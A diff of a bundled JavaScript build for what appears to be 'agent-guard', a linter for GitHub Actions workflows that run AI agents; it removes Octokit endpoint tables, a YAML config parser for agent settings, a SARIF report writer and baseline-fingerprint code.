-        ],
-        getGpgKeyForAuthenticatedUser: ["GET /user/gpg_keys/{gpg_key_id}"],
-        getPublicSshKeyForAuthenticated: [
-          "GET /user/keys/{key_id}",
-          {},
-          { renamed: ["users", "getPublicSshKeyForAuthenticatedUser"] }
-        ],
-        getPublicSshKeyForAuthenticatedUser: ["GET /user/keys/{key_id}"],
-        getSshSigningKeyForAuthenticatedUser: [
-          "GET /user/ssh_signing_keys/{ssh_signing_key_id}"
-        ],
-        list: ["GET /users"],
-        listAttestations: ["GET /users/{username}/attestations/{subject_digest}"],
-        listBlockedByAuthenticated: [
-          "GET /user/blocks",
-          {},
-          { renamed: ["users", "listBlockedByAuthenticatedUser"] }
-        ],
-        listBlockedByAuthenticatedUser: ["GET /user/blocks"],
-        listEmailsForAuthenticated: [
-          "GET /user/emails",
-          {},
-          { renamed: ["users", "listEmailsForAuthenticatedUser"] }
-        ],
-        listEmailsForAuthenticatedUser: ["GET /user/emails"],
-        listFollowedByAuthenticated: [
-          "GET /user/following",
-          {},
-          { renamed: ["users", "listFollowedByAuthenticatedUser"] }
-        ],
-        listFollowedByAuthenticatedUser: ["GET /user/following"],
-        listFollowersForAuthenticatedUser: ["GET /user/followers"],
-        listFollowersForUser: ["GET /users/{username}/followers"],
-        listFollowingForUser: ["GET /users/{username}/following"],
-        listGpgKeysForAuthenticated: [
-          "GET /user/gpg_keys",
-          {},
-          { renamed: ["users", "listGpgKeysForAuthenticatedUser"] }
-        ],
-        listGpgKeysForAuthenticatedUser: ["GET /user/gpg_keys"],
-        listGpgKeysForUser: ["GET /users/{username}/gpg_keys"],
-        listPublicEmailsForAuthenticated: [
-          "GET /user/public_emails",
-          {},
-          { renamed: ["users", "listPublicEmailsForAuthenticatedUser"] }
-        ],
-        listPublicEmailsForAuthenticatedUser: ["GET /user/public_emails"],
-        listPublicKeysForUser: ["GET /users/{username}/keys"],
-        listPublicSshKeysForAuthenticated: [
-          "GET /user/keys",
-          {},
-          { renamed: ["users", "listPublicSshKeysForAuthenticatedUser"] }
-        ],
-        listPublicSshKeysForAuthenticatedUser: ["GET /user/keys"],
-        listSocialAccountsForAuthenticatedUser: ["GET /user/social_accounts"],
-        listSocialAccountsForUser: ["GET /users/{username}/social_accounts"],
-        listSshSigningKeysForAuthenticatedUser: ["GET /user/ssh_signing_keys"],
-        listSshSigningKeysForUser: ["GET /users/{username}/ssh_signing_keys"],
-        setPrimaryEmailVisibilityForAuthenticated: [
-          "PATCH /user/email/visibility",
-          {},
-          { renamed: ["users", "setPrimaryEmailVisibilityForAuthenticatedUser"] }
-        ],
-        setPrimaryEmailVisibilityForAuthenticatedUser: [
-          "PATCH /user/email/visibility"
-        ],
-        unblock: ["DELETE /user/blocks/{username}"],
-        unfollow: ["DELETE /user/following/{username}"],
-        updateAuthenticated: ["PATCH /user"]
-      }
-    };
-    var endpoints_default = Endpoints;
-    var endpointMethodsMap = /* @__PURE__ */ new Map();
-    for (const [scope, endpoints] of Object.entries(endpoints_default)) {
-      for (const [methodName, endpoint] of Object.entries(endpoints)) {
-        const [route, defaults, decorations] = endpoint;
-        const [method, url] = route.split(/ /);
-        const endpointDefaults = Object.assign(
-          {
-            method,
-            url
-          },
-          defaults
-        );
-        if (!endpointMethodsMap.has(scope)) {
-          endpointMethodsMap.set(scope, /* @__PURE__ */ new Map());
-        }
-        endpointMethodsMap.get(scope).set(methodName, {
-          scope,
-          methodName,
-          endpointDefaults,
-          decorations
-        });
-      }
-    }
-    var handler = {
-      has({ scope }, methodName) {
-        return endpointMethodsMap.get(scope).has(methodName);
-      },
-      getOwnPropertyDescriptor(target, methodName) {
-        return {
-          value: this.get(target, methodName),
-          // ensures method is in the cache
-          configurable: true,
-          writable: true,
-          enumerable: true
-        };
-      },
-      defineProperty(target, methodName, descriptor) {
-        Object.defineProperty(target.cache, methodName, descriptor);
-        return true;
-      },
-      deleteProperty(target, methodName) {
-        delete target.cache[methodName];
-        return true;
-      },
-      ownKeys({ scope }) {
-        return [...endpointMethodsMap.get(scope).keys()];
-      },
-      set(target, methodName, value) {
-        return target.cache[methodName] = value;
-      },
-      get({ octokit, scope, cache: cache2 }, methodName) {
-        if (cache2[methodName]) {
-          return cache2[methodName];
-        }
-        const method = endpointMethodsMap.get(scope).get(methodName);
-        if (!method) {
-          return void 0;
-        }
-        const { endpointDefaults, decorations } = method;
-        if (decorations) {
-          cache2[methodName] = decorate(
-            octokit,
-            scope,
-            methodName,
-            endpointDefaults,
-            decorations
-          );
-        } else {
-          cache2[methodName] = octokit.request.defaults(endpointDefaults);
-        }
-        return cache2[methodName];
-      }
-    };
-    function endpointsToMethods(octokit) {
-      const newMethods = {};
-      for (const scope of endpointMethodsMap.keys()) {
-        newMethods[scope] = new Proxy({ octokit, scope, cache: {} }, handler);
-      }
-      return newMethods;
-    }
-    function decorate(octokit, scope, methodName, defaults, decorations) {
-      const requestWithDefaults = octokit.request.defaults(defaults);
-      function withDecorations(...args) {
-        let options = requestWithDefaults.endpoint.merge(...args);
-        if (decorations.mapToData) {
-          options = Object.assign({}, options, {
-            data: options[decorations.mapToData],
-            [decorations.mapToData]: void 0
-          });
-          return requestWithDefaults(options);
-        }
-        if (decorations.renamed) {
-          const [newScope, newMethodName] = decorations.renamed;
-          octokit.log.warn(
-            `octokit.${scope}.${methodName}() has been renamed to octokit.${newScope}.${newMethodName}()`
-          );
-        }
-        if (decorations.deprecated) {
-          octokit.log.warn(decorations.deprecated);
-        }
-        if (decorations.renamedParameters) {
-          const options2 = requestWithDefaults.endpoint.merge(...args);
-          for (const [name, alias] of Object.entries(
-            decorations.renamedParameters
-          )) {
-            if (name in options2) {
-              octokit.log.warn(
-                `"${name}" parameter is deprecated for "octokit.${scope}.${methodName}()". Use "${alias}" instead`
-              );
-              if (!(alias in options2)) {
-                options2[alias] = options2[name];
-              }
-              delete options2[name];
-            }
-          }
-          return requestWithDefaults(options2);
-        }
-        return requestWithDefaults(...args);
-      }
-      return Object.assign(withDecorations, requestWithDefaults);
-    }
-    function restEndpointMethods(octokit) {
-      const api = endpointsToMethods(octokit);
-      return {
-        rest: api
-      };
-    }
-    restEndpointMethods.VERSION = VERSION2;
-    function legacyRestEndpointMethods(octokit) {
-      const api = endpointsToMethods(octokit);
-      return {
-        ...api,
-        rest: api
-      };
-    }
-    legacyRestEndpointMethods.VERSION = VERSION2;
-  }
-});
-
-// node_modules/@octokit/rest/dist-node/index.js
-var require_dist_node12 = __commonJS({
-  "node_modules/@octokit/rest/dist-node/index.js"(exports2, module2) {
-    "use strict";
-    var __defProp2 = Object.defineProperty;
-    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
-    var __getOwnPropNames2 = Object.getOwnPropertyNames;
-    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
-    var __export2 = (target, all) => {
-      for (var name in all)
-        __defProp2(target, name, { get: all[name], enumerable: true });
-    };
-    var __copyProps2 = (to, from, except, desc) => {
-      if (from && typeof from === "object" || typeof from === "function") {
-        for (let key2 of __getOwnPropNames2(from))
-          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
-            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
-      }
-      return to;
-    };
-    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
-    var index_exports = {};
-    __export2(index_exports, {
-      Octokit: () => Octokit2
-    });
-    module2.exports = __toCommonJS2(index_exports);
-    var import_core = require_dist_node8();
-    var import_plugin_request_log = require_dist_node9();
-    var import_plugin_paginate_rest = require_dist_node10();
-    var import_plugin_rest_endpoint_methods = require_dist_node11();
-    var VERSION2 = "20.1.2";
-    var Octokit2 = import_core.Octokit.plugin(
-      import_plugin_request_log.requestLog,
-      import_plugin_rest_endpoint_methods.legacyRestEndpointMethods,
-      import_plugin_paginate_rest.paginateRest
-    ).defaults({
-      userAgent: `octokit-rest.js/${VERSION2}`
-    });
-  }
-});
-
 // src/cli.ts
 var cli_exports = {};
 __export(cli_exports, {
@@ -17401,8 +16563,7 @@ var import_node_fs28 = __toESM(require("node:fs"));
 init_types();
 
 // src/config.ts
-var import_node_fs = __toESM(require("node:fs"));
-init_types();
+var import_node_fs3 = __toESM(require("node:fs"));
 
 // src/workflow/yaml.ts
 var import_yaml = __toESM(require_dist());
@@ -17583,602 +16744,6 @@ function locateInScalar(file, scalar, valueOffset, length) {
   return at;
 }
 
-// src/config.ts
-var EMPTY_CONFIG = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
-var ConfigError = class extends Error {
-};
-function readConfig(path21) {
-  let text;
-  try {
-    text = import_node_fs.default.readFileSync(path21, "utf8");
-  } catch (err) {
-    throw new ConfigError(`${path21}:1:1: cannot read config: ${err.code ?? "error"}`);
-  }
-  return parseConfig(path21, text);
-}
-function parseConfig(path21, text) {
-  const file = makeSourceFile(path21, text);
-  let root;
-  try {
-    root = loadYaml(file);
-  } catch (err) {
-    const pos = positionOf(file, err instanceof YamlLoadError ? err.offset : 0);
-    throw new ConfigError(`${path21}:${pos.line}:${pos.column}: invalid YAML: ${err.message}`);
-  }
-  const config = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
-  if (!root || root.kind === "scalar" && root.value === null) return config;
-  const fail4 = (node, message) => {
-    const pos = positionOf(file, node.start);
-    throw new ConfigError(`${path21}:${pos.line}:${pos.column}: ${message}`);
-  };
-  const map = expectMap(root, "the config", fail4);
-  for (const { key: key2, value } of map.pairs) {
-    switch (key2.text) {
-      case "ignore":
-        config.ignore = expectSeq(value, "ignore", fail4).map((item) => readIgnore(item, fail4));
-        break;
-      case "severity":
-        for (const p of expectMap(value, "severity", fail4).pairs) {
-          const level = p.value.kind === "scalar" ? p.value.text : "";
-          if (!SEVERITIES.includes(level)) fail4(p.value, `severity of '${p.key.text}' must be one of ${SEVERITIES.join(", ")}`);
-          config.severity[p.key.text] = level;
-        }
-        break;
-      case "trusted-users":
-        config.trustedUsers = strings(value, "trusted-users", fail4);
-        break;
-      case "trusted-bots":
-        config.trustedBots = strings(value, "trusted-bots", fail4);
-        break;
-      case "agents":
-        readAgents(value, config, fail4, file);
-        break;
-      default:
-        fail4(key2, `unknown key '${key2.text}' (expected ignore, severity, trusted-users, trusted-bots, agents)`);
-    }
-  }
-  return config;
-}
-function expectMap(node, what, fail4) {
-  if (node.kind !== "map") fail4(node, `${what} must be a mapping`);
-  return node;
-}
-function expectSeq(node, what, fail4) {
-  if (node.kind !== "seq") fail4(node, `${what} must be a list`);
-  return node.items;
-}
-function strings(node, what, fail4) {
-  return expectSeq(node, what, fail4).map((i) => i.kind === "scalar" ? i.text : fail4(i, `${what} entries must be strings`));
-}
-function readIgnore(node, fail4) {
-  const out = {};
-  for (const { key: key2, value } of expectMap(node, "an ignore entry", fail4).pairs) {
-    if (value.kind !== "scalar") fail4(value, `'${key2.text}' must be a string`);
-    const text = value.text;
-    if (key2.text === "rule") out.rule = text;
-    else if (key2.text === "file") out.file = text;
-    else if (key2.text === "job") out.job = text;
-    else fail4(key2, `unknown key '${key2.text}' in ignore entry (expected rule, file, job)`);
-  }
-  if (!out.rule && !out.file && !out.job) fail4(node, "an ignore entry needs rule, file or job");
-  return out;
-}
-function readAgents(node, config, fail4, file) {
-  for (const { key: key2, value } of expectMap(node, "agents", fail4).pairs) {
-    if (key2.text === "actions") {
-      for (const item of expectSeq(value, "agents.actions", fail4)) config.actions.push(readAction(item, fail4));
-    } else if (key2.text === "commands") {
-      for (const item of expectSeq(value, "agents.commands", fail4)) config.clis.push(readCommand(item, fail4));
-    } else fail4(key2, `unknown key '${key2.text}' in agents (expected actions, commands)`);
-  }
-  void file;
-}
-var SHELLS = ["full", "restricted", "none"];
-function readAction(node, fail4) {
-  const m = expectMap(node, "an agent action", fail4);
-  const fields = {};
-  for (const p of m.pairs) {
-    if (!["uses", "name", "prompt-inputs", "key-inputs", "token-inputs", "shell", "network", "reads-thread"].includes(p.key.text)) {
-      fail4(p.key, `unknown key '${p.key.text}' in agent action (expected uses, name, prompt-inputs, key-inputs, token-inputs, shell, network, reads-thread)`);
-    }
-    fields[p.key.text] = p.value;
-  }
-  if (!fields.uses || fields.uses.kind !== "scalar") fail4(node, "an agent action needs 'uses'");
-  const uses = fields.uses.text;
-  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "none";
-  if (!SHELLS.includes(shell)) fail4(fields.shell, `shell must be one of ${SHELLS.join(", ")}`);
-  return {
-    id: `config:${uses}`,
-    name: fields.name?.kind === "scalar" ? fields.name.text : uses,
-    uses: [uses],
-    promptInputs: fields["prompt-inputs"] ? strings(fields["prompt-inputs"], "prompt-inputs", fail4) : ["prompt"],
-    keyInputs: fields["key-inputs"] ? strings(fields["key-inputs"], "key-inputs", fail4) : [],
-    tokenInputs: fields["token-inputs"] ? strings(fields["token-inputs"], "token-inputs", fail4) : [],
-    keyHandling: "process",
-    gate: { kind: "none" },
-    readsThread: fields["reads-thread"]?.kind === "scalar" && fields["reads-thread"].text === "true" ? "always" : "never",
-    defaults: { shell, network: fields.network?.kind === "scalar" && fields.network.text === "true", writesFiles: shell !== "none" }
-  };
-}
-function readCommand(node, fail4) {
-  const m = expectMap(node, "an agent command", fail4);
-  const fields = {};
-  for (const p of m.pairs) {
-    if (!["command", "name", "bypass-flags", "key-env", "shell"].includes(p.key.text)) {
-      fail4(p.key, `unknown key '${p.key.text}' in agent command (expected command, name, bypass-flags, key-env, shell)`);
-    }
-    fields[p.key.text] = p.value;
-  }
-  if (!fields.command || fields.command.kind !== "scalar") fail4(node, "an agent command needs 'command'");
-  const command2 = fields.command.text;
-  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "full";
-  if (!SHELLS.includes(shell)) fail4(fields.shell, `shell must be one of ${SHELLS.join(", ")}`);
-  return {
-    id: `config:${command2}`,
-    name: fields.name?.kind === "scalar" ? fields.name.text : command2,
-    commands: [command2],
-    bypassFlags: fields["bypass-flags"] ? strings(fields["bypass-flags"], "bypass-flags", fail4) : [],
-    defaults: { shell, network: shell === "full", writesFiles: true },
-    keyEnv: fields["key-env"] ? strings(fields["key-env"], "key-env", fail4) : [],
-    instructionFiles: []
-  };
-}
-function globMatch(pattern, path21) {
-  const normalized = path21.replace(/\\/g, "/");
-  const re = new RegExp(
-    "(^|/)" + pattern.replace(/[.+^${}()|[\]\\]/g, "\\$&").replace(/\*\*/g, "\0").replace(/\*/g, "[^/]*").replace(/\u0000/g, ".*").replace(/\?/g, "[^/]") + "$"
-  );
-  return re.test(normalized);
-}
-
-// src/action/lint.ts
-var import_node_fs8 = __toESM(require("node:fs"));
-var import_node_path5 = __toESM(require("node:path"));
-
-// src/baseline.ts
-var import_node_crypto = require("node:crypto");
-var import_node_fs2 = __toESM(require("node:fs"));
-var import_node_path = __toESM(require("node:path"));
-init_common();
-
-// src/report/sarif.ts
-var import_crypto = require("crypto");
-var path2 = __toESM(require("path"));
-var import_url = require("url");
-init_types();
-init_common();
-var SARIF_SCHEMA_URI = "https://json.schemastore.org/sarif-2.1.0.json";
-var SRCROOT = "%SRCROOT%";
-var FINGERPRINT_KEY = "agentGuardFindingHash/v1";
-var SECURITY_SEVERITY = {
-  critical: "9.5",
-  high: "8.0",
-  medium: "5.5",
-  low: "3.0"
-};
-function sarifLevel(s) {
-  return s === "critical" || s === "high" ? "error" : s === "medium" ? "warning" : "note";
-}
-function toSarif(result, opts) {
-  const rules = sortRules(result.rules);
-  const ruleIndex = /* @__PURE__ */ new Map();
-  const descriptors = [];
-  for (const r of rules) {
-    ruleIndex.set(r.id, descriptors.length);
-    descriptors.push(ruleDescriptor(r));
-  }
-  const findings = sortFindings(result.findings);
-  for (const f of findings) {
-    if (!ruleIndex.has(f.rule)) {
-      ruleIndex.set(f.rule, descriptors.length);
-      descriptors.push(ruleDescriptor(fallbackRule(f.rule, findings)));
-    }
-  }
-  const fingerprints = computeFingerprints(findings, opts.root);
-  const results = findings.map((f, i) => sarifResult(f, ruleIndex.get(f.rule) ?? 0, fingerprints[i], opts.root));
-  const errors = sortErrors(result.errors);
-  const nothingRead = errors.length > 0 && errorFileCount(errors) >= result.stats.files;
-  const invocation = { executionSuccessful: !nothingRead };
-  if (errors.length > 0) invocation.toolExecutionNotifications = errors.map((e) => notification(e, opts.root));
-  const driver = {
-    name: TOOL_NAME,
-    version: opts.toolVersion
-  };
-  if (/^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$/.test(opts.toolVersion)) {
-    driver.semanticVersion = opts.toolVersion;
-  }
-  driver.informationUri = TOOL_URI;
-  driver.rules = descriptors;
-  const run = {
-    tool: { driver },
-    invocations: [invocation]
-  };
-  if (opts.root !== void 0) run.originalUriBaseIds = { [SRCROOT]: { uri: dirUri(opts.root) } };
-  run.results = results;
-  run.columnKind = "utf16CodeUnits";
-  return {
-    $schema: SARIF_SCHEMA_URI,
-    version: "2.1.0",
-    runs: [run]
-  };
-}
-function formatSarif(result, opts) {
-  return `${JSON.stringify(toSarif(result, opts), null, 2)}
-`;
-}
-function ruleDescriptor(r) {
-  const plain = markdownToText(r.help).trim();
-  const full = markdownToText(firstParagraph(r.help)).trim() || r.title;
-  const docsNote = r.docs && !r.help.includes(r.docs);
-  const d = {
-    id: r.id,
-    name: pascalCase(r.id),
-    shortDescription: { text: r.title },
-    fullDescription: { text: full },
-    defaultConfiguration: { level: sarifLevel(r.severity) }
-  };
-  if (r.docs) d.helpUri = r.docs;
-  d.help = {
-    text: (plain || r.title) + (docsNote ? `
-
-Documentation: ${r.docs}` : ""),
-    markdown: (r.help.trim() || r.title) + (docsNote ? `
-
-[Documentation](${r.docs})` : "")
-  };
-  d.properties = {
-    "security-severity": SECURITY_SEVERITY[r.severity],
-    tags: ["security", "github-actions", "ai-agent"]
-  };
-  return d;
-}
-function fallbackRule(id, findings) {
-  let severity = "low";
-  for (const f of findings) if (f.rule === id && severityRank(f.severity) > severityRank(severity)) severity = f.severity;
-  return { id, title: id, severity, help: "", docs: "" };
-}
-function pascalCase(id) {
-  return id.split(/[^A-Za-z0-9]+/).filter((p) => p !== "").map((p) => p[0].toUpperCase() + p.slice(1)).join("");
-}
-function markdownToText(md2) {
-  return md2.replace(/\r\n/g, "\n").replace(/^```[^\n]*\n([\s\S]*?)^```[ \t]*$/gm, (_m, body) => body.replace(/\n$/, "")).replace(/!\[([^\]]*)\]\([^)]*\)/g, "$1").replace(/\[([^\]]+)\]\(([^)\s]+)[^)]*\)/g, (_m, text, url) => text === url ? url : `${text} (${url})`).replace(/`([^`\n]+)`/g, "$1").replace(/^#{1,6}[ \t]+/gm, "").replace(/(\*\*|__)(?=\S)([^\n]*?\S)\1/g, "$2").replace(/(^|[\s(])[*_](?=\S)([^*_\n]*?\S)[*_](?=[\s).,;:!?]|$)/gm, "$1$2");
-}
-function firstParagraph(md2) {
-  for (const p of md2.replace(/\r\n/g, "\n").split(/\n[ \t]*\n/)) {
-    const t = p.trim();
-    if (t === "" || t.startsWith("#") || t.startsWith("```")) continue;
-    return t.replace(/\s*\n\s*/g, " ");
-  }
-  return "";
-}
-function sarifResult(f, ruleIndex, fingerprint, root) {
-  const r = {
-    ruleId: f.rule,
-    ruleIndex,
-    level: sarifLevel(f.severity),
-    message: { text: resultMessage(f) },
-    locations: [{ physicalLocation: physicalLocation(f.file, f, root) }],
-    partialFingerprints: { [FINGERPRINT_KEY]: fingerprint }
-  };
-  if (f.related?.length) {
-    r.relatedLocations = f.related.map((h, id) => ({ id, physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }));
-  }
-  if (f.path.length > 0) {
-    r.codeFlows = [
-      {
-        threadFlows: [
-          {
-            locations: f.path.map((h) => ({
-              location: { physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }
-            }))
-          }
-        ]
-      }
-    ];
-  }
-  const props = {
-    severity: f.severity,
-    confidence: f.confidence,
-    capabilities: [...f.capabilities]
-  };
-  if (f.job !== void 0) props.job = f.job;
-  if (f.step !== void 0) props.step = f.step;
-  r.properties = props;
-  return r;
-}
-function resultMessage(f) {
-  const parts = [f.message.trim()];
-  if (f.capabilities.length > 0) parts.push(`The agent holds: ${f.capabilities.join(", ")}.`);
-  if (f.fix.trim() !== "") parts.push(`Fix: ${f.fix.trim()}`);
-  return parts.join("\n\n");
-}
-function physicalLocation(file, span, root) {
-  const loc2 = { artifactLocation: artifactLocation(file, root) };
-  const region = sarifRegion(span);
-  if (region) loc2.region = region;
-  return loc2;
-}
-function sarifRegion(s) {
-  if (!(s.line >= 1)) return void 0;
-  const region = { startLine: s.line };
-  const hasCol = s.column >= 1;
-  if (hasCol) region.startColumn = s.column;
-  const endLine = s.endLine !== void 0 && s.endLine >= s.line ? s.endLine : void 0;
-  if (endLine !== void 0) region.endLine = endLine;
-  if (s.endColumn !== void 0 && s.endColumn >= 1 && hasCol) {
-    if ((endLine ?? s.line) > s.line || s.endColumn > s.column) {
-      if (endLine === void 0) region.endLine = s.line;
-      region.endColumn = s.endColumn;
-    }
-  }
-  return region;
-}
-function artifactLocation(file, root) {
-  const rel = repoPath(file, root);
-  if (rel.startsWith("/")) return { uri: `file://${encodePath(rel, false)}` };
-  if (/^[A-Za-z]:\//.test(rel)) return { uri: `file:///${rel.slice(0, 2)}${encodePath(rel.slice(2), false)}` };
-  return { uri: encodePath(rel, true), uriBaseId: SRCROOT };
-}
-function encodePath(p, relative3) {
-  return p.split("/").map((seg3, i) => {
-    let e = encodeURI(seg3).replace(/\?/g, "%3F").replace(/#/g, "%23");
-    if (relative3 && i === 0) e = e.replace(/:/g, "%3A");
-    return e;
-  }).join("/");
-}
-function dirUri(root) {
-  const href = (0, import_url.pathToFileURL)(path2.resolve(root)).href;
-  return href.endsWith("/") ? href : `${href}/`;
-}
-function notification(e, root) {
-  return {
-    level: "error",
-    message: { text: e.message },
-    locations: [{ physicalLocation: physicalLocation(e.file, e, root) }]
-  };
-}
-function messageWithoutLines(message) {
-  return message.replace(/\b(lines?|ln|columns?|cols?)(\s*)\d+(?:\s*[-–,]\s*\d+)*/gi, "$1$2#").replace(/\bL\d+(?:-L?\d+)?\b/g, "L#").replace(/(\.[A-Za-z0-9]+):\d+(?::\d+)?/g, "$1:#").replace(/\s+/g, " ").trim();
-}
-function findingFingerprintBase(f, root) {
-  const parts = [FINGERPRINT_KEY, f.rule, repoPath(f.file, root), f.job ?? "", f.step ?? "", messageWithoutLines(f.message)];
-  return (0, import_crypto.createHash)("sha256").update(parts.join("\0")).digest("hex").slice(0, 32);
-}
-function computeFingerprints(findings, root) {
-  const seen = /* @__PURE__ */ new Map();
-  return findings.map((f) => {
-    const base = findingFingerprintBase(f, root);
-    const n = (seen.get(base) ?? 0) + 1;
-    seen.set(base, n);
-    return `${base}:${n}`;
-  });
-}
-
-// src/baseline.ts
-var BASELINE_VERSION = 1;
-var BaselineError = class extends ConfigError {
-};
-function baselineRoot(cwd) {
-  let dir = import_node_path.default.resolve(cwd);
-  for (; ; ) {
-    if (import_node_fs2.default.existsSync(import_node_path.default.join(dir, ".git"))) return dir;
-    const parent = import_node_path.default.dirname(dir);
-    if (parent === dir) return import_node_path.default.resolve(cwd);
-    dir = parent;
-  }
-}
-function relativeFile(file, cwd, root) {
-  const rel = import_node_path.default.relative(root, import_node_path.default.resolve(cwd, file));
-  return rel.split(import_node_path.default.sep).join("/");
-}
-function entryKey(f, cwd, root) {
-  const file = relativeFile(f.file, cwd, root);
-  const job = f.job ?? null;
-  const step = f.step ?? null;
-  const fingerprint = (0, import_node_crypto.createHash)("sha256").update(["agent-guard-baseline/v1", f.rule, file, job ?? "", step ?? "", messageWithoutLines(f.message)].join("\0")).digest("hex").slice(0, 32);
-  return { rule: f.rule, file, job, step, fingerprint };
-}
-function cmp(a, b) {
-  return a < b ? -1 : a > b ? 1 : 0;
-}
-function createBaseline(findings, cwd, root = baselineRoot(cwd)) {
-  const byPrint = /* @__PURE__ */ new Map();
-  for (const f of findings) {
-    const key2 = entryKey(f, cwd, root);
-    const seen = byPrint.get(key2.fingerprint);
-    if (seen) seen.count++;
-    else byPrint.set(key2.fingerprint, { ...key2, count: 1 });
-  }
-  const entries = [...byPrint.values()].sort(
-    (a, b) => cmp(a.file, b.file) || cmp(a.job ?? "", b.job ?? "") || cmp(a.step ?? "", b.step ?? "") || cmp(a.rule, b.rule) || cmp(a.fingerprint, b.fingerprint)
-  );
-  return { version: BASELINE_VERSION, findings: entries };
-}
-function formatBaseline(baseline) {
-  const lines = baseline.findings.map(
-    (e) => `    ${JSON.stringify({ rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count })}`
-  );
-  return `{
-  "version": ${baseline.version},
-  "findings": [${lines.length ? `
-${lines.join(",\n")}
-  ` : ""}]
-}
-`;
-}
-function writeBaseline(file, baseline) {
-  try {
-    import_node_fs2.default.mkdirSync(import_node_path.default.dirname(import_node_path.default.resolve(file)), { recursive: true });
-    import_node_fs2.default.writeFileSync(file, formatBaseline(baseline));
-  } catch (err) {
-    throw new BaselineError(`${file}: cannot write baseline: ${err.code ?? err.message}`);
-  }
-}
-function readBaseline(file) {
-  let text;
-  try {
-    text = import_node_fs2.default.readFileSync(file, "utf8");
-  } catch (err) {
-    throw new BaselineError(`${file}: cannot read baseline: ${err.code ?? "error"}`);
-  }
-  return parseBaseline(file, text);
-}
-function jsonErrorOffset(text) {
-  let i = 0;
-  const ws = () => {
-    while (i < text.length && " 	\n\r".includes(text[i])) i++;
-  };
-  const fail4 = () => {
-    throw i;
-  };
-  const literal = (word) => {
-    for (const ch of word) if (text[i++] !== ch) i--, fail4();
-  };
-  const string = () => {
-    i++;
-    while (i < text.length && text[i] !== '"') {
-      const c = text.charCodeAt(i);
-      if (c < 32) fail4();
-      if (text[i] === "\\") {
-        i++;
-        if (text[i] === "u") {
-          if (!/^[0-9a-fA-F]{4}$/.test(text.slice(i + 1, i + 5))) fail4();
-          i += 4;
-        } else if (!'"\\/bfnrt'.includes(text[i] ?? "x")) fail4();
-      }
-      i++;
-    }
-    if (text[i] !== '"') fail4();
-    i++;
-  };
-  const number = () => {
-    const m = /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?/.exec(text.slice(i));
-    if (!m || m[0] === "" || m[0] === "-") fail4();
-    i += m[0].length;
-  };
-  const value = () => {
-    ws();
-    const c = text[i];
-    if (c === "{") {
-      i++;
-      ws();
-      if (text[i] === "}") return void i++;
-      for (; ; ) {
-        ws();
-        if (text[i] !== '"') fail4();
-        string();
-        ws();
-        if (text[i] !== ":") fail4();
-        i++;
-        value();
-        ws();
-        if (text[i] === ",") i++;
-        else if (text[i] === "}") return void i++;
-        else fail4();
-      }
-    }
-    if (c === "[") {
-      i++;
-      ws();
-      if (text[i] === "]") return void i++;
-      for (; ; ) {
-        value();
-        ws();
-        if (text[i] === ",") i++;
-        else if (text[i] === "]") return void i++;
-        else fail4();
-      }
-    }
-    if (c === '"') return string();
-    if (c === "t") return literal("true");
-    if (c === "f") return literal("false");
-    if (c === "n") return literal("null");
-    return number();
-  };
-  try {
-    value();
-    ws();
-    if (i < text.length) fail4();
-  } catch (at) {
-    if (typeof at === "number") return at;
-    throw at;
-  }
-  return text.length;
-}
-function lineColumn(text, offset) {
-  const before = text.slice(0, offset);
-  const line = before.split("\n").length;
-  const column = before.length - before.lastIndexOf("\n");
-  return `:${line}:${column}`;
-}
-function parseBaseline(file, text) {
-  let data;
-  try {
-    data = JSON.parse(text);
-  } catch (err) {
-    const message = err.message.split("\n")[0].replace(/, "[^]*" is not valid JSON$/, "");
-    throw new BaselineError(`${file}${lineColumn(text, jsonErrorOffset(text))}: baseline is not valid JSON: ${message}`);
-  }
-  const bad = (what) => {
-    throw new BaselineError(`${file}: not an agent-guard baseline: ${what}`);
-  };
-  if (data === null || typeof data !== "object" || Array.isArray(data)) bad("expected a JSON object");
-  const top = data;
-  if (top.version !== BASELINE_VERSION) bad(`"version" must be ${BASELINE_VERSION}`);
-  for (const key2 of Object.keys(top)) if (key2 !== "version" && key2 !== "findings") bad(`unknown key "${key2}"`);
-  if (!Array.isArray(top.findings)) bad('"findings" must be an array');
-  const findings = top.findings.map((item, i) => {
-    const where = `findings[${i}]`;
-    if (item === null || typeof item !== "object" || Array.isArray(item)) return bad(`${where} must be an object`);
-    const e = item;
-    for (const key2 of Object.keys(e)) {
-      if (!["rule", "file", "job", "step", "fingerprint", "count"].includes(key2)) bad(`${where} has unknown key "${key2}"`);
-    }
-    for (const key2 of ["rule", "file", "fingerprint"]) if (typeof e[key2] !== "string" || e[key2] === "") bad(`${where}.${key2} must be a non-empty string`);
-    for (const key2 of ["job", "step"]) if (e[key2] !== null && typeof e[key2] !== "string") bad(`${where}.${key2} must be a string or null`);
-    if (!Number.isInteger(e.count) || e.count < 1) bad(`${where}.count must be a whole number >= 1`);
-    return { rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count };
-  });
-  return { version: BASELINE_VERSION, findings };
-}
-function applyBaseline(findings, baseline, cwd, root = baselineRoot(cwd)) {
-  const left = /* @__PURE__ */ new Map();
-  for (const e of baseline.findings) {
-    const id = [e.fingerprint, e.rule, e.file, e.job ?? "", e.step ?? ""].join("\0");
-    const seen = left.get(id);
-    if (seen) seen.count += e.count;
-    else left.set(id, { entry: e, count: e.count });
-  }
-  const fresh = [];
-  const known = [];
-  for (const f of sortFindings(findings)) {
-    const k = entryKey(f, cwd, root);
-    const slot = left.get([k.fingerprint, k.rule, k.file, k.job ?? "", k.step ?? ""].join("\0"));
-    if (slot && slot.count > 0) {
-      slot.count--;
